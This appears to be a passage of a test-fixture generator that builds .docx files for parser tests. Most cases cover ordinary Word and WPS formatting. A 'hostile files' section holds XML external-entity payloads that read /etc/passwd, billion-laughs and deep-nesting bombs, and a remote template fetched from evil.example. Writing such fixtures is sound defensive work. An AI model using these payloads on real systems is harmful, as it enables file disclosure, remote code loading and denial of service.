#!/usr/bin/python3
# SPDX-License-Identifier: LGPL-2.1-or-later
"""Builds the .docx files that the tests read, from XML parts as Word and WPS write them.

    make-docx.py FOLDER [STAMP]          every case below, one file each, hostile ones too
    make-docx.py --text FILE.txt OUT.docx   a plain .docx of a text, a paragraph a line

Everything is our own writing; 人物、单位均为虚构. The output is the same on every run.
"""

import io
import os
import struct
import sys
import zipfile

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
STRICT_W = "http://purl.oclc.org/ooxml/wordprocessingml/main"
STRICT_OFFICE = "http://purl.oclc.org/ooxml/officeDocument"
WORD_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml"
HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
NAMESPACES = (
    f'xmlns:w="{W}" xmlns:r="{OFFICE}/relationships" '
    'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" '
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
    'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture" '
    'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
    'xmlns:wps="http://schemas.microsoft.com/office/word/2010/wordprocessingShape" '
    'xmlns:w14="http://schemas.microsoft.com/office/word/2010/wordml" '
    'xmlns:m="http://schemas.openxmlformats.org/officeDocument/2006/math" '
    'xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" '
    'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" '
    'xmlns:wpsCustomData="http://www.wps.cn/officeDocument/2013/wpsCustomData" '
)

# --- small words for WordprocessingML ---------------------------------------------------


def t(text):
    return f'<w:t xml:space="preserve">{text}</w:t>'


def r(content, properties=""):
    if not content.startswith("<"):
        content = t(content)
    properties = f"<w:rPr>{properties}</w:rPr>" if properties else ""
    return f"<w:r>{properties}{content}</w:r>"


def p(content="", properties=""):
    if content and not content.startswith("<"):
        content = r(content)
    properties = f"<w:pPr>{properties}</w:pPr>" if properties else ""
    return f"<w:p>{properties}{content}</w:p>"


def style(name):
    return f'<w:pStyle w:val="{name}"/>'


def numbered(number, level=0):
    return f'<w:numPr><w:ilvl w:val="{level}"/><w:numId w:val="{number}"/></w:numPr>'


def cell(text, properties=""):
    content = text if text.startswith("<") else p(text)
    return f"<w:tc><w:tcPr>{properties}</w:tcPr>{content}</w:tc>"


def row(*cells, properties=""):
    properties = f"<w:trPr>{properties}</w:trPr>" if properties else ""
    return f"<w:tr>{properties}{''.join(cells)}</w:tr>"


def table(*rows):
    return f"<w:tbl><w:tblPr/><w:tblGrid/>{''.join(rows)}</w:tbl>"


def field(code, result):
    return (
        r('<w:fldChar w:fldCharType="begin"/>')
        + r(f'<w:instrText xml:space="preserve"> {code} </w:instrText>')
        + r('<w:fldChar w:fldCharType="separate"/>')
        + result
        + r('<w:fldChar w:fldCharType="end"/>')
    )


def level(index, form, pattern, start=1, more=""):
    return (
        f'<w:lvl w:ilvl="{index}"><w:start w:val="{start}"/><w:numFmt w:val="{form}"/>{more}'
        f'<w:lvlText w:val="{pattern}"/><w:lvlJc w:val="left"/></w:lvl>'
    )


def numbering(definitions, lists):
    """definitions: id to levels; lists: id to (definition, overrides)."""
    text = "".join(
        f'<w:abstractNum w:abstractNumId="{key}"><w:multiLevelType w:val="multilevel"/>{value}'
        "</w:abstractNum>"
        for key, value in definitions.items()
    )
    text += "".join(
        f'<w:num w:numId="{key}"><w:abstractNumId w:val="{definition}"/>{overrides}</w:num>'
        for key, (definition, overrides) in lists.items()
    )
    return f"{HEAD}<w:numbering {NAMESPACES}>{text}</w:numbering>"


WORD_STYLES = f"""{HEAD}<w:styles {NAMESPACES}>
<w:docDefaults><w:rPrDefault><w:rPr><w:sz w:val="21"/></w:rPr></w:rPrDefault></w:docDefaults>
<w:style w:type="paragraph" w:default="1" w:styleId="a"><w:name w:val="Normal"/></w:style>
<w:style w:type="paragraph" w:styleId="1"><w:name w:val="heading 1"/><w:basedOn w:val="a"/>
<w:pPr><w:outlineLvl w:val="0"/></w:pPr><w:rPr><w:b/><w:sz w:val="32"/></w:rPr></w:style>
<w:style w:type="paragraph" w:styleId="2"><w:name w:val="heading 2"/><w:basedOn w:val="a"/>
<w:pPr><w:outlineLvl w:val="1"/></w:pPr></w:style>
<w:style w:type="paragraph" w:styleId="my1"><w:name w:val="我的标题"/><w:basedOn w:val="1"/></w:style>
<w:style w:type="paragraph" w:styleId="a3"><w:name w:val="Title"/><w:basedOn w:val="a"/>
<w:pPr><w:jc w:val="center"/></w:pPr><w:rPr><w:sz w:val="44"/></w:rPr></w:style>
<w:style w:type="paragraph" w:styleId="n1"><w:name w:val="条文"/><w:basedOn w:val="a"/>
<w:pPr><w:numPr><w:numId w:val="1"/></w:numPr></w:pPr></w:style>
<w:style w:type="paragraph" w:styleId="n2"><w:name w:val="条文二"/><w:basedOn w:val="n1"/>
<w:pPr><w:numPr><w:ilvl w:val="1"/></w:numPr></w:pPr></w:style>
<w:style w:type="paragraph" w:styleId="loop1"><w:name w:val="loop1"/><w:basedOn w:val="loop2"/></w:style>
<w:style w:type="paragraph" w:styleId="loop2"><w:name w:val="loop2"/><w:basedOn w:val="loop1"/></w:style>
<w:style w:type="paragraph" w:styleId="toc1"><w:name w:val="toc 1"/></w:style>
<w:style w:type="character" w:styleId="unseen"><w:name w:val="unseen"/><w:rPr><w:vanish/></w:rPr></w:style>
</w:styles>"""

# WPS numbers its styles through.
WPS_STYLES = f"""{HEAD}<w:styles {NAMESPACES}>
<w:docDefaults><w:rPrDefault><w:rPr><w:rFonts w:ascii="Times New Roman" w:eastAsia="宋体"/></w:rPr></w:rPrDefault></w:docDefaults>
<w:latentStyles w:count="260"><w:lsdException w:uiPriority="0" w:name="Normal"/></w:latentStyles>
<w:style w:type="paragraph" w:default="1" w:styleId="1"><w:name w:val="Normal"/><w:qFormat/>
<w:rPr><w:sz w:val="21"/></w:rPr></w:style>
<w:style w:type="paragraph" w:styleId="2"><w:name w:val="heading 1"/><w:basedOn w:val="1"/><w:next w:val="1"/></w:style>
<w:style w:type="paragraph" w:styleId="3"><w:name w:val="heading 2"/><w:basedOn w:val="1"/><w:next w:val="1"/></w:style>
<w:style w:type="paragraph" w:customStyle="1" w:styleId="9"><w:name w:val="公文标题"/><w:basedOn w:val="1"/></w:style>
</w:styles>"""

CORE = (
    f'{HEAD}<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/'
    'core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>%s</dc:title>'
    "<dc:creator>赵宁</dc:creator></cp:coreProperties>"
)


def document(body):
    return f"{HEAD}<w:document {NAMESPACES}><w:body>{body}<w:sectPr/></w:body></w:document>"


KNOWN = {  # part to (relationship, content type)
    "styles.xml": ("styles", "styles"),
    "numbering.xml": ("numbering", "numbering"),
    "footnotes.xml": ("footnotes", "footnotes"),
    "endnotes.xml": ("endnotes", "endnotes"),
    "comments.xml": ("comments", "comments"),
    "settings.xml": ("settings", "settings"),
    "header1.xml": ("header", "header"),
    "footer1.xml": ("footer", "footer"),
}


def parts(body, more=None, relations="", whole=None, styles=WORD_STYLES):
    """A document's parts by name; @more: parts of word/, or with a slash anywhere."""
    found = {"styles.xml": styles}
    found.update(more or {})
    types = "".join(
        f'<Override PartName="/word/{name}" ContentType="{WORD_TYPE}.{KNOWN[name][1]}+xml"/>'
        for name in found
        if name in KNOWN
    )
    relations = relations + "".join(
        f'<Relationship Id="rId{i}" Type="{OFFICE}/relationships/{KNOWN[name][0]}" Target="{name}"/>'
        for i, name in enumerate(found)
        if name in KNOWN
    )
    result = {
        "[Content_Types].xml": f'{HEAD}<Types xmlns="http://schemas.openxmlformats.org/package/2006/'
        'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-'
        'package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/word/document.xml" ContentType="{WORD_TYPE}.document.main+xml"/>'
        f"{types}</Types>",
        "_rels/.rels": f'{HEAD}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        f'relationships"><Relationship Id="rId1" Type="{OFFICE}/relationships/officeDocument" '
        'Target="word/document.xml"/></Relationships>',
        "word/document.xml": whole if whole is not None else document(body),
        "word/_rels/document.xml.rels": f'{HEAD}<Relationships xmlns="http://schemas.openxmlformats.'
        f'org/package/2006/relationships">{relations}</Relationships>',
    }
    for name, value in found.items():
        result[name if "/" in name else "word/" + name] = value
    return result


def pack(contents, method=zipfile.ZIP_DEFLATED):
    """contents: a dictionary, or a list of (name or ZipInfo, bytes)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, value in contents.items() if isinstance(contents, dict) else contents:
            if not isinstance(name, zipfile.ZipInfo):
                name = zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0))
                name.external_attr = 0o600 << 16
            name.compress_type = method
            archive.writestr(name, value.encode() if isinstance(value, str) else value)
    return buffer.getvalue()


CASES = {}


def case(function):
    CASES[function.__name__.replace("_", "-")] = function
    return function


TITLE = p("示例市夜间停车管理办法", style("a3"))
TEXT = p("为了加强夜间停车管理，方便群众生活，制定本办法。")

# --- structure ----------------------------------------------------------------------------


@case
def styles():
    return parts(
        TITLE
        + p("总体要求", style("1"))
        + p("基本原则", style("2"))
        + p("保障措施", style("my1"))
        + p("附加说明", '<w:outlineLvl w:val="2"/>')
        + p("绕圈的样式", style("loop1"))
        + TEXT
        + p("示例市人民政府", '<w:jc w:val="right"/>')
        + p("2026年7月4日", '<w:jc w:val="end"/>')
    )


@case
def centred_title():
    return parts(
        p(r("示例市人民政府文件", '<w:color w:val="FF0000"/><w:sz w:val="80"/>'), '<w:jc w:val="center"/>')
        + p(
            r("关于加强夜间停车", '<w:sz w:val="44"/>') + r("<w:br/>") + r("管理工作的通知", '<w:sz w:val="44"/>'),
            '<w:jc w:val="center"/>',
        )
        + p(r("一、目标", '<w:sz w:val="32"/>'), '<w:jc w:val="center"/>')
        + TEXT
    )


@case
def wps():
    body = (
        p("示例市夜间停车管理办法", style("9") + '<w:jc w:val="center"/>')
        + p("总体要求", style("2") + numbered(7))
        + p("<w:r><w:rPr><w:rFonts w:hint=\"eastAsia\"/></w:rPr><w:t>合理安排</w:t></w:r>", style("3") + numbered(7, 1))
        + p("方便群众", style("3") + numbered(7, 1))
        + "<w:p><w:pPr><w:rPr><w:rFonts w:hint=\"eastAsia\"/></w:rPr></w:pPr>"
        "<wpsCustomData:extend/><w:bookmarkStart w:id=\"0\" w:name=\"_GoBack\"/><w:bookmarkEnd w:id=\"0\"/>"
        "<w:r><w:t>为了方便群众，</w:t></w:r><w:r><w:t>制定本办法。</w:t></w:r></w:p>"
    )
    levels = level(0, "japaneseCounting", "%1、", more='<w:suff w:val="nothing"/>')
    levels += level(1, "japaneseCounting", "（%2）", more='<w:suff w:val="nothing"/>')
    return parts(
        body,
        {
            "numbering.xml": numbering({3: levels}, {7: (3, "")}),
            "docProps/custom.xml": f'{HEAD}<Properties xmlns="{OFFICE}/custom-properties" '
            f'xmlns:vt="{OFFICE}/docPropsVTypes"><property name="KSOProductBuildVer">'
            "<vt:lpwstr>2052-11.1.0.14309</vt:lpwstr></property></Properties>",
            "customXml/item1.xml": "<s:customData xmlns=\"http://www.wps.cn/officeDocument/2013/wpsCustomData\" "
            "xmlns:s=\"http://www.wps.cn/officeDocument/2013/wpsCustomData\"><customSectProps/></s:customData>",
        },
        styles=WPS_STYLES,
    )


@case
def strict():
    made = parts(TITLE + p("总体要求", style("1")) + TEXT + table(row(cell("项目"), cell("标准"))))
    return {
        name: value.replace(W, STRICT_W)
        .replace(f"{OFFICE}/relationships", f"{STRICT_OFFICE}/relationships")
        for name, value in made.items()
    }


@case
def moved_main_part():
    made = parts(TITLE + TEXT)
    made["word/main.xml"] = made.pop("word/document.xml")
    made["word/_rels/main.xml.rels"] = made.pop("word/_rels/document.xml.rels")
    return {
        name: value.replace("word/document.xml", "word/main.xml") for name, value in made.items()
    }


# --- numbering ------------------------------------------------------------------------------

OUTLINE = (
    level(0, "chineseCountingThousand", "%1、", more='<w:suff w:val="nothing"/>')
    + level(1, "chineseCountingThousand", "（%2）")
    + level(2, "decimal", "%3.")
    + level(3, "decimal", "（%4）")
)


@case
def numbering_outline():
    return parts(
        TITLE
        + p("总体要求", numbered(1))
        + p("原则", numbered(1, 1))
        + p("目标", numbered(1, 1))
        + p("近期", numbered(1, 2))
        + p("5G网络", numbered(1, 2))
        + p("细目", numbered(1, 3))
        + p("主要任务", numbered(1))
        + p("任务甲", numbered(1, 1))
        + p("没有编号", numbered(0)),
        {"numbering.xml": numbering({0: OUTLINE}, {1: (0, "")})},
    )


@case
def numbering_restart():
    lists = {
        1: (0, ""),
        2: (0, '<w:lvlOverride w:ilvl="0"><w:startOverride w:val="1"/></w:lvlOverride>'),
        3: (0, '<w:lvlOverride w:ilvl="0"><w:startOverride w:val="9"/></w:lvlOverride>'),
        4: (0, ""),
    }
    return parts(
        TITLE
        + p("甲", numbered(1))
        + p("乙", numbered(1))
        + p("丙", numbered(2))
        + p("丁", numbered(2))
        + p("戊", numbered(3))
        + p("己", numbered(4)),
        {"numbering.xml": numbering({0: OUTLINE}, lists)},
    )


@case
def numbering_never_restarts():
    levels = level(0, "chineseCountingThousand", "第%1章") + level(
        1, "chineseCountingThousand", "第%2条", more='<w:lvlRestart w:val="0"/>'
    )
    return parts(
        TITLE
        + p("总则", numbered(1))
        + p("为了方便群众。", numbered(1, 1))
        + p("适用本市。", numbered(1, 1))
        + p("附则", numbered(1))
        + p("自印发之日起施行。", numbered(1, 1)),
        {"numbering.xml": numbering({0: levels}, {1: (0, "")})},
    )


@case
def numbering_patterns():
    levels = (
        level(0, "upperRoman", "%1.")
        + level(1, "lowerLetter", "%2)")
        + level(2, "decimal", "%1.%2.%3", more="<w:isLgl/>")
        + level(3, "decimalEnclosedCircleChinese", "%4")
        + level(4, "ideographTraditional", "%5、")
        + level(5, "decimal", "%6", start=7)
        + level(6, "thaiLetters", "%7.")
        + level(7, "bullet", "\uf06c")
        + level(8, "decimal", "附件%9", more="<w:rPr><w:vanish/></w:rPr>")
    )
    return parts(
        TITLE + "".join(p(f"第{i}级", numbered(1, i)) for i in range(9)),
        {"numbering.xml": numbering({0: levels}, {1: (0, "")})},
    )


@case
def numbering_by_style():
    levels = level(0, "chineseCountingThousand", "第%1条", more='<w:pStyle w:val="n1"/>') + level(
        1, "chineseCountingThousand", "（%2）", more='<w:pStyle w:val="n2"/>'
    )
    return parts(
        TITLE
        + p("甲事。", style("n1"))
        + p("乙项；", style("n2"))
        + p("丙项。", style("n2"))
        + p("丁事。", style("n1"))
        + p("戊事没有编号。", style("n1") + numbered(0)),
        {"numbering.xml": numbering({0: levels}, {1: (0, "")})},
    )


@case
def numbering_linked():
    linked = '<w:numStyleLink w:val="n1"/>'
    circle = '<w:numStyleLink w:val="nowhere"/>'
    return parts(
        TITLE + p("甲事", numbered(5)) + p("乙事", numbered(5)) + p("丙事", numbered(6)) + p("丁事", numbered(77)),
        {
            "numbering.xml": numbering(
                {0: OUTLINE, 1: linked, 2: circle}, {1: (0, ""), 5: (1, ""), 6: (2, "")}
            )
        },
    )


@case
def numbering_custom():
    alternatives = (
        '<w:lvl w:ilvl="0"><w:start w:val="1"/><mc:AlternateContent><mc:Choice Requires="w14">'
        '<w:numFmt w:val="custom" w:format="001, 002, 003, ..."/></mc:Choice><mc:Fallback>'
        '<w:numFmt w:val="decimal"/></mc:Fallback></mc:AlternateContent><w:lvlText w:val="%1、"/></w:lvl>'
    )
    return parts(
        TITLE + p("甲事", numbered(1)) + p("乙事", numbered(1)),
        {"numbering.xml": numbering({0: alternatives}, {1: (0, "")})},
    )


# --- tables -----------------------------------------------------------------------------------


@case
def merged_cells():
    start = '<w:vMerge w:val="restart"/>'
    on = "<w:vMerge/>"
    return parts(
        TITLE
        + table(
            row(cell("类别"), cell("标准", '<w:gridSpan w:val="2"/>'), properties="<w:tblHeader/>"),
            row(cell("加装电梯", start), cell("首台"), cell("20万元")),
            row(cell("看不见的字", on), cell("第二台"), cell("15万元")),
            row(cell("", on), cell("以后各台"), cell("10万元")),
            row(cell("其他"), cell("另定"), properties='<w:gridAfter w:val="1"/>'),
            row(cell("说明"), cell("见附件"), properties='<w:gridBefore w:val="1"/>'),
        )
        + TEXT
    )


@case
def numbered_cells():
    return parts(
        TITLE + table(row(cell(p("", numbered(1))), cell("甲")), row(cell(p("", numbered(1))), cell("乙"))),
        {"numbering.xml": numbering({0: level(0, "decimal", "%1")}, {1: (0, "")})},
    )


@case
def nested_table():
    inner = table(row(cell("内一"), cell("内二")))
    return parts(TITLE + table(row(cell(p("外一") + inner + p("外后")), cell("外二"))) + TEXT)


@case
def old_merge():
    return parts(
        TITLE
        + table(
            row(cell("甲", '<w:hMerge w:val="restart"/>'), cell("", "<w:hMerge/>"), cell("乙")),
            row(cell("一"), cell("二"), cell("三")),
        )
    )


# --- changes ------------------------------------------------------------------------------------


@case
def tracked_changes():
    who = 'w:id="1" w:author="钱禾" w:date="2026-01-01T00:00:00Z"'
    return parts(
        TITLE
        + p(
            r("补助标准为每台")
            + f"<w:del {who}><w:r><w:delText>二十五万元</w:delText></w:r></w:del>"
            + f"<w:ins {who}>{r('二十万元')}</w:ins>"
            + r("。")
        )
        + p(r("前半句，"), f"<w:rPr><w:del {who}/></w:rPr>")
        + p(r("后半句。"), f"<w:rPr><w:ins {who}/></w:rPr><w:pPrChange {who}><w:pPr>{style('1')}</w:pPr></w:pPrChange>")
        + p(f"<w:moveFrom {who}>{r('搬走的一句。')}</w:moveFrom>" + r("留下的一句。"))
        + p(f"<w:moveTo {who}>{r('搬走的一句。')}</w:moveTo>")
        + p(r("加粗", f"<w:b/><w:rPrChange {who}><w:rPr><w:vanish/></w:rPr></w:rPrChange>"))
        + table(row(cell("删去的行"), properties=f"<w:del {who}/>"), row(cell("留下的行")))
    )


@case
def deleted_numbers():
    who = 'w:id="1" w:author="钱禾"'
    return parts(
        TITLE
        + p("甲", numbered(1))
        + p(
            f"<w:del {who}><w:r><w:delText>乙</w:delText></w:r></w:del>",
            numbered(1) + f"<w:rPr><w:del {who}/></w:rPr>",
        )
        + p("丙", numbered(1)),
        {"numbering.xml": numbering({0: OUTLINE}, {1: (0, "")})},
    )


def comments(text):
    return (
        f'{HEAD}<w:comments {NAMESPACES}><w:comment w:id="0" w:author="孙序">{p(text)}</w:comment>'
        f'<w:comment w:id="1" w:author="孙序">{p("再核。")}</w:comment></w:comments>'
    )


@case
def comments_and_headers():
    made = {
        "comments.xml": comments("请核对数字。"),
        "header1.xml": f"{HEAD}<w:hdr {NAMESPACES}>{p('内部讨论稿')}</w:hdr>",
        "footer1.xml": f"{HEAD}<w:ftr {NAMESPACES}>{p('')}</w:ftr>",
    }
    text = (
        '<w:commentRangeStart w:id="0"/>'
        + r("为了方便群众。")
        + '<w:commentRangeEnd w:id="0"/>'
        + r('<w:commentReference w:id="0"/>')
    )
    return parts(TITLE + p(text), made)


def notes(kind, *texts):
    body = f'<w:{kind} w:type="separator" w:id="-1">{p(r("<w:separator/>"))}</w:{kind}>'
    for i, text in enumerate(texts):
        body += f'<w:{kind} w:id="{i + 1}">{p(r(f"<w:{kind}Ref/>") + r(text))}</w:{kind}>'
    return f"{HEAD}<w:{kind}s {NAMESPACES}>{body}</w:{kind}s>"


@case
def footnotes():
    return parts(
        TITLE
        + p(
            r("住宅")
            + r('<w:footnoteReference w:id="2"/>')
            + r("加装电梯")
            + r('<w:endnoteReference w:id="1"/>')
            + r("，按本办法补助。")
        )
        + p(r("再说一句。") + r('<w:footnoteReference w:id="1"/>') + r('<w:footnoteReference w:id="99"/>')),
        {
            "footnotes.xml": notes("footnote", "指四层以上。", "指2000年以前建成的住宅。"),
            "endnotes.xml": notes("endnote", "见技术规程。"),
        },
    )


# --- text boxes, drawings -------------------------------------------------------------------------


def drawing(content, descr=""):
    return (
        f'<w:drawing><wp:inline><wp:docPr id="1" name="x" descr="{descr}"/><a:graphic>'
        f"<a:graphicData>{content}</a:graphicData></a:graphic></wp:inline></w:drawing>"
    )


def text_box(text):
    box = f"<w:txbxContent>{p(text)}</w:txbxContent>"
    return (
        '<mc:AlternateContent><mc:Choice Requires="wps">'
        + drawing(f"<wps:wsp><wps:txbx>{box}</wps:txbx></wps:wsp>")
        + "</mc:Choice><mc:Fallback><w:pict><v:shape><v:textbox>"
        + box
        + "</v:textbox></v:shape></w:pict></mc:Fallback></mc:AlternateContent>"
    )


PICTURE = drawing('<pic:pic><pic:blipFill><a:blip r:embed="rId9"/></pic:blipFill></pic:pic>', "示意图")


@case
def text_boxes():
    return parts(
        TITLE
        + p(r("盒前，") + r(text_box("盒中的话。")) + r("盒后。"))
        + p(r("<w:pict><v:shape><v:textbox><w:txbxContent>" + p("老式盒子。") + "</w:txbxContent></v:textbox></v:shape></w:pict>"))
        + p(r('<w:pict><v:shape><v:textpath string="艺术字"/></v:shape></w:pict>'))
        + TEXT
    )


@case
def pictures():
    line = drawing("<wps:wsp><wps:spPr/></wps:wsp>")
    chart = drawing('<c:chart r:id="rId5"/>')
    made = parts(
        TITLE
        + p(r(PICTURE))
        + p(r("<w:pict><v:shape><v:imagedata/></v:shape></w:pict>") + r("图后的字。"))
        + p(r(line) + r(chart))
        + p("<m:oMath><m:f><m:num><m:r><m:t>甲</m:t></m:r></m:num><m:den><m:r><m:t>乙</m:t></m:r></m:den></m:f></m:oMath>")
        + TEXT
    )
    made["word/media/image1.png"] = "not a picture, and never looked at"
    return made


@case
def fields():
    number = '<w:fldSimple w:instr=" PAGE "><w:r><w:t>3</w:t></w:r></w:fldSimple>'
    box = (
        r('<w:fldChar w:fldCharType="begin"><w:ffData><w:checkBox><w:default w:val="0"/><w:checked/>'
          "</w:checkBox></w:ffData></w:fldChar>")
        + r("<w:instrText> FORMCHECKBOX </w:instrText>")
        + r('<w:fldChar w:fldCharType="end"/>')
    )
    return parts(
        TITLE
        + p(
            r("页")
            + number
            + r("，见")
            + field("REF _Ref1 \\h", r("第三条"))
            + r("，网址")
            + field('HYPERLINK "http://www.example/"', r("示例网"))
            + r("，同意")
            + box
            + r("。")
        )
        + p('<w:hyperlink r:id="rId20">' + r("链接的字") + "</w:hyperlink>" + field("EQ \\o(甲,乙)", ""))
        + p(field("IF " + field("PAGE", r("7")) + r("<w:instrText>=1</w:instrText>"), r("结果")))
        + TEXT
    )


@case
def contents_table():
    begin = r('<w:fldChar w:fldCharType="begin"/>') + r("<w:instrText> TOC \\o </w:instrText>")
    begin += r('<w:fldChar w:fldCharType="separate"/>')
    return parts(
        TITLE
        + p(begin + r("目录甲\t1"), numbered(1))
        + p("目录乙 2", numbered(1))
        + p(r('<w:fldChar w:fldCharType="end"/>'))
        + p("目录丙 3", style("toc1"))
        + '<w:sdt><w:sdtPr><w:docPartObj><w:docPartGallery w:val="Table of Contents"/></w:docPartObj>'
        "</w:sdtPr><w:sdtContent>" + p("目录丁 4") + "</w:sdtContent></w:sdt>"
        + p("总则", numbered(1))
        + TEXT,
        {"numbering.xml": numbering({0: OUTLINE}, {1: (0, "")})},
    )


@case
def controls():
    return parts(
        TITLE
        + "<w:sdt><w:sdtPr><w:alias w:val=\"正文\"/></w:sdtPr><w:sdtContent>" + p("控件里的字。") + "</w:sdtContent></w:sdt>"
        + p(r("填：") + "<w:sdt><w:sdtPr><w:showingPlcHdr/></w:sdtPr><w:sdtContent>" + r("单击此处输入文字") + "</w:sdtContent></w:sdt>")
        + TEXT
    )


@case
def small_things():
    return parts(
        TITLE
        + p(
            r("甲<w:tab/>".replace("甲", t("甲")) + t("乙"))
            + r("<w:noBreakHyphen/><w:softHyphen/>")
            + r("丙\u00ad\u200b丁")
            + r('<w:sym w:font="Wingdings" w:char="F0FE"/>')
            + r('<w:sym w:font="Webdings" w:char="F061"/>')
            + r("<w:lastRenderedPageBreak/><w:br w:type=\"page\"/>")
            + r("<w:t>\n 戊 </w:t>")
            + r("己\uf0a8庚\uf123"),
            '<w:tabs><w:tab w:val="left" w:pos="100"/></w:tabs>',
        )
        + p(r("上行") + r("<w:br/>") + r("下行"))
        + p(r("<w:ruby><w:rubyPr/><w:rt>" + r("shì") + "</w:rt><w:rubyBase>" + r("示") + "</w:rubyBase></w:ruby>") + r("例"))
        + TEXT
        + p("                        2026年7月4日")
    )


@case
def hidden_text():
    return parts(
        TITLE
        + p(r("看得见") + r("看不见甲", "<w:vanish/>") + r("看不见乙", '<w:rStyle w:val="unseen"/>')
            + r("又看得见", '<w:rStyle w:val="unseen"/><w:vanish w:val="0"/>') + r("。"))
        + p(r("全看不见", "<w:vanish/>"), numbered(1))
        + p("有号", numbered(1)),
        {"numbering.xml": numbering({0: OUTLINE}, {1: (0, "")})},
    )


@case
def active_content():
    outside = 'TargetMode="External"'
    made = parts(
        TITLE
        + TEXT
        + p(r('<w:object><v:shape><v:imagedata/></v:shape><o:OLEObject Type="Embed"/></w:object>'))
        + '<w:altChunk r:id="rId31"/>',
        {
            "settings.xml": f"{HEAD}<w:settings {NAMESPACES}><w:attachedTemplate r:id=\"rId1\"/></w:settings>",
            "word/_rels/settings.xml.rels": f'{HEAD}<Relationships xmlns="http://schemas.openxmlformats.org/'
            f'package/2006/relationships"><Relationship Id="rId1" Type="{OFFICE}/relationships/'
            f'attachedTemplate" Target="http://evil.example/t.dotm" {outside}/></Relationships>',
        },
        relations=f'<Relationship Id="rId30" Type="{OFFICE}/relationships/image" '
        f'Target="http://evil.example/a.png" {outside}/>'
        f'<Relationship Id="rId32" Type="{OFFICE}/relationships/hyperlink" '
        f'Target="http://www.example/" {outside}/>',
    )
    made["word/vbaProject.bin"] = "macro"
    made["word/embeddings/oleObject1.bin"] = "object"
    made["word/embeddings/inner.docx"] = pack({"[Content_Types].xml": "x"})
    made["[Content_Types].xml"] = made["[Content_Types].xml"].replace(
        f"{WORD_TYPE}.document.main+xml", "application/vnd.ms-word.document.macroEnabled.main+xml"
    )
    return made


# --- secrecy marks ----------------------------------------------------------------------------------

MARK = "机密★5年"


@case
def secret_body():
    return parts(p(MARK) + TITLE + TEXT)


@case
def secret_header():
    return parts(TITLE + TEXT, {"header1.xml": f"{HEAD}<w:hdr {NAMESPACES}>{p(r('机密') + r('★5年'))}</w:hdr>"})


@case
def secret_comment():
    return parts(TITLE + TEXT, {"comments.xml": comments(MARK)})


@case
def secret_text_box():
    return parts(TITLE + p(r(text_box(MARK))) + TEXT)


@case
def secret_fallback():
    return parts(TITLE + p(r(text_box("盒子").replace("盒子", MARK).replace(MARK, "盒子", 1))) + TEXT)


@case
def secret_deletion():
    return parts(TITLE + TEXT + p(f'<w:del w:id="1"><w:r><w:delText>{MARK}</w:delText></w:r></w:del>'))


@case
def secret_hidden():
    return parts(TITLE + TEXT + p(r(MARK, "<w:vanish/>")))


@case
def secret_property():
    return parts(TITLE + TEXT, {"docProps/core.xml": CORE % MARK})


@case
def secret_watermark():
    shape = f'<w:pict><v:shape><v:textpath string="{MARK}"/></v:shape></w:pict>'
    return parts(TITLE + TEXT, {"header1.xml": f"{HEAD}<w:hdr {NAMESPACES}>{p(r(shape))}</w:hdr>"})


@case
def secret_cell():
    return parts(TITLE + table(row(cell("密级"), cell(MARK))) + TEXT)


@case
def secret_note():
    return parts(TITLE + TEXT, {"footnotes.xml": notes("footnote", MARK)})


# --- hostile files ------------------------------------------------------------------------------------


def with_document(text):
    return parts("", whole=text)


def doctype(declaration, reference=""):
    return with_document(
        f'{HEAD}<!DOCTYPE w:document [{declaration}]><w:document {NAMESPACES}><w:body>'
        f"{p(r('<w:t>字' + reference + '</w:t>'))}</w:body></w:document>"
    )


@case
def hostile_dtd():
    return doctype("")


@case
def hostile_external_entity():
    return doctype('<!ENTITY x SYSTEM "file:///etc/passwd">', "&x;")


@case
def hostile_parameter_entity():
    return doctype('<!ENTITY % x SYSTEM "http://127.0.0.1:1/x.dtd"> %x;')


@case
def hostile_billion_laughs():
    lines = '<!ENTITY a "ha">' + "".join(
        f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(9)
    )
    return doctype(lines, "&j;")


@case
def hostile_quadratic():
    return doctype(f'<!ENTITY a "{"a" * 100000}">', "&a;" * 3000)


@case
def hostile_entity_in_styles():
    return parts(TITLE, {"styles.xml": WORD_STYLES.replace("<w:styles", '<!DOCTYPE x [<!ENTITY a "b">]><w:styles')})


@case
def hostile_depth():
    return with_document(
        f"{HEAD}<w:document {NAMESPACES}><w:body>{'<w:p>' * 20000}{'</w:p>' * 20000}</w:body></w:document>"
    )


@case
def hostile_not_xml():
    return with_document("this is not XML at all")


@case
def hostile_cut_xml():
    return with_document(document(TITLE)[:-20])


@case
def hostile_wrong_encoding():
    return with_document(document(TITLE).encode("gb18030"))


@case
def hostile_utf16_lie():
    return with_document(document(TITLE).replace('"UTF-8"', '"UTF-16"').encode())


@case
def hostile_utf7():
    return with_document(document(TITLE).replace('"UTF-8"', '"UTF-7"').encode("utf-7"))


@case
def hostile_nul():
    return with_document(document(p("甲乙")).encode().replace("甲".encode(), b"\0"))


@case
def hostile_no_body():
    return with_document(f"{HEAD}<w:document {NAMESPACES}/>")


@case
def hostile_rows_outside():
    return parts(TITLE + row(cell("没有表")))


@case
def hostile_wide_table():
    return parts(TITLE + table(row(*[cell("字")] * 300)))


@case
def hostile_huge_span():
    return parts(TITLE + table(row(cell("宽", '<w:gridSpan w:val="2147483647"/>'), cell("后"))))


@case
def hostile_open_field():
